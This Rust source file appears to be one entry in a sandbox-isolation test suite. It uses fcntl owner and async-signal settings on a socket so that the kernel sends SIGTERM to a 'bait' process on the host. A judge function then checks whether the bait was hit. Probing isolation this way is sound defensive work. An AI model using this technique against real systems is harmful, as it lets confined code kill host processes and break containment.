//! Names a process of the host as the owner of a descriptor, so that the kernel signals it when data comes.

use std::io::Write;
use std::os::fd::AsRawFd;
use std::os::unix::net::UnixStream;

use model::Wall;

use super::support::{bait, judge_by_bait, set_bait};
use crate::inside::call;
use crate::{Attack, Control};

pub const ATTACK: Attack = Attack {
    id: "kernel/signal_by_file",
    wall: Wall::Processes,
    about: "have the kernel signal a process of the host as the owner of a socket",
    flags: &[],
    prepare: |field| set_bait(field).map(drop),
    inside: |inside| {
        let bait = bait(inside)? as u64;
        let (one, mut other) = UnixStream::pair()?;
        let control =
            |command: i32, value: u64| call(libc::SYS_fcntl, [one.as_raw_fd() as u64, command as u64, value, 0, 0, 0]);
        const SET_SIGNAL: i32 = 10;
        const SET_OWNER: i32 = 8;
        control(SET_SIGNAL, libc::SIGTERM as u64)?;
        control(libc::F_SETFL, (libc::O_ASYNC | libc::O_NONBLOCK) as u64)?;
        control(SET_OWNER, bait)?;
        other.write_all(b"now")
    },
    judge: Some(|field, run| {
        std::thread::sleep(std::time::Duration::from_millis(100));
        judge_by_bait(field, run)
    }),
    control: Control::Bare,
};
